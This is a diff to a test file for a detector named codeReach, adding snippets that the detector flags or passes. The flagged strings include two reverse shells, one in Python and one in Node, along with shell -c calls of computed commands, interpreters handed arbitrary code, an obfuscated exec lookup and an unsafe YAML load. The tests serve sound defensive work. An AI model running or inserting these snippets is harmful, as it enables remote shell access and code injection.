@@ -64,6 +64,32 @@ describe('code that reaches what its text does not show', () => {
       'require "fiddle"\nFiddle::Function.new(h["system"], [Fiddle::TYPE_VOIDP], Fiddle::TYPE_INT)',
     ],
     ['PHP FFI', 'php', '$ffi = FFI::cdef("int system(const char *);");'],
+    ['sh -c of a computed command in an argument list', 'python', 'subprocess.run(["sh", "-c", cmd])'],
+    ['bash -c of a computed command, spawned', 'node', 'spawnSync("bash", ["-c", cmd]);'],
+    [
+      'execl of a shell with a concatenated command',
+      'python',
+      'os.execl("/bin/sh", "sh", "-c", "echo " + x)',
+    ],
+    ['node itself handed code read from a file', 'node', 'execFileSync(process.execPath, ["-e", code]);'],
+    ['Python itself handed code', 'python', 'subprocess.run([sys.executable, "-c", payload])'],
+    ['Ruby system of sh -c with a variable', 'ruby', 'system("sh", "-c", cmd)'],
+    [
+      'a reverse shell',
+      'python',
+      's = socket.socket(); s.connect((h, 4444)); os.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
+    ],
+    [
+      'a socket piped to a spawned shell',
+      'node',
+      'const c = net.connect(p, h); const sh = cp.spawn("/bin/sh", []); c.pipe(sh.stdin);',
+    ],
+    ['runpy of a path', 'python', 'runpy.run_path("/tmp/x.py")'],
+    ['a builtin read by a computed key', 'python', 'f = __builtins__["ex" + "ec"]'],
+    ['a module read from sys.modules by a computed key', 'python', 'm = sys.modules[name]'],
+    ['an interactive interpreter fed text', 'python', 'code.InteractiveInterpreter().runsource(src)'],
+    ['an unsafe YAML load', 'python', 'yaml.load(open("x.yml"), Loader=yaml.UnsafeLoader)'],
+    ['a worker evaluating a string', 'node', 'new Worker(src, { eval: true });'],
   ])('%s', (_name, language, code) => {
     expect(codeReach(language, code)).toBeDefined();
   });
@@ -101,6 +127,16 @@ describe('ordinary code is not flagged', () => {
     ['a module loaded by a literal harmless name', 'python', 'importlib.import_module("json").dumps({})'],
     ['the environment read by a literal key', 'node', 'const port = process["env"].PORT;'],
     ['a Map read by a computed key', 'node', 'const v = modules[name];'],
+    ['sh -c of a literal command', 'python', 'subprocess.run(["sh", "-c", "npm run build"], check=True)'],
+    [
+      'bash -c of a literal command, spawned',
+      'node',
+      'spawnSync("bash", ["-c", "make test"], { stdio: "inherit" });',
+    ],
+    ['a list of shell names', 'python', 'SHELLS = ["bash", "zsh", "sh"]'],
+    ['a socket server with no shell', 'python', 's = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()'],
+    ['a safe YAML load', 'python', 'yaml.safe_load(open("x.yml"))'],
+    ['a worker from a file', 'node', 'new Worker(new URL("./w.js", import.meta.url));'],
   ])('%s', (_name, language, code) => {
     expect(codeReach(language, code)).toBeUndefined();
   });
